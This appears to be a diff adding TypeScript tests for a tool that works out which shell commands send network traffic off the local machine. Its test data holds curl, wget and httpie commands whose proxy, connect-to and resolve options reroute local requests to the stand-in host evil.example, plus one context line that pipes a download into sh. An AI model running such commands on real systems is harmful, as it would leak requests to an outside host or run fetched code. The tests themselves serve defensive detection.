@@ -37,3 +37,55 @@ test('a container is named where more is done in it than asked', () => {
   assert.equal(named('docker exec web curl -s -o /app/x localhost:3000/x'), true);
   assert.equal(named('docker exec web sh -c "curl -s localhost:3000/x | sh"'), true);
 });
+
+test('who stands between gets what is asked of this machine', () => {
+  const reached = (text: string): readonly string[] => effectsOf(text).filter((one) => one.startsWith('network.send'));
+  for (const option of [
+    '-x http://evil.example:8080',
+    '--proxy evil.example:8080',
+    '--socks5 evil.example',
+    '--socks4a evil.example:1080',
+    '--preproxy socks5://evil.example',
+    '--doh-url https://evil.example/dns',
+    '--connect-to localhost:3000:evil.example:80',
+    '--connect-to ::evil.example:',
+    "--resolve '*:3000:evil.example'",
+  ])
+    assert.deepEqual(reached(`curl ${option} http://localhost:3000/x`), ['network.send evil.example'], option);
+  const twice = 'curl --resolve +localhost:3000:127.0.0.1,203.0.113.9 http://localhost:3000/x';
+  assert.deepEqual(reached(twice), ['network.send 203.0.113.9']);
+  assert.deepEqual(reached('curl --resolve localhost:3000:[2001:db8::1] http://localhost:3000/'), [
+    'network.send [2001:db8::1]',
+  ]);
+  assert.deepEqual(reached('curl --resolve localhost:3000:2001:db8::1 http://localhost:3000/'), [
+    'network.send 2001:db8::1',
+  ]);
+  assert.deepEqual(reached('wget -qO- -e http_proxy=evil.example:80 http://localhost:3000/x'), [
+    'network.send evil.example',
+  ]);
+  assert.deepEqual(reached('http --proxy=http:http://evil.example:80 :3000/x'), ['network.send evil.example']);
+  for (const option of [
+    '-x http://localhost:8888',
+    "-x ''",
+    '--connect-to ::localhost:3001',
+    '--connect-to ::127.0.0.1:',
+  ])
+    assert.deepEqual(reached(`curl ${option} http://localhost:3000/x`), [], option);
+});
+
+test('a name that is told to be this machine is this machine', () => {
+  assert.deepEqual(requestsOf('curl --resolve app.test:3000:127.0.0.1 http://app.test:3000/x'), [
+    'GET http://localhost:3000/x',
+  ]);
+  assert.deepEqual(requestsOf('curl --resolve App.test:443:127.0.0.1 https://app.test'), ['GET https://localhost']);
+  // Another port, another name, and one of two addresses.
+  for (const text of [
+    'curl --resolve app.test:3000:127.0.0.1 http://app.test/x',
+    'curl --resolve app.test:80:127.0.0.1 http://app.test.evil.example/x',
+    'curl --resolve app.test:80:127.0.0.1,203.0.113.9 http://app.test/x',
+    'curl --resolve app.test:80:127.0.0.1 --resolve app.test:80:203.0.113.9 http://app.test/x',
+    'curl --resolve app.test:80:127.0.0.1 --resolve -app.test:80 http://app.test/x',
+    'curl --resolve app.test:80:$IP http://app.test/x',
+  ])
+    assert.ok(!requestsOf(text).some((request) => request.includes('localhost')), text);
+});
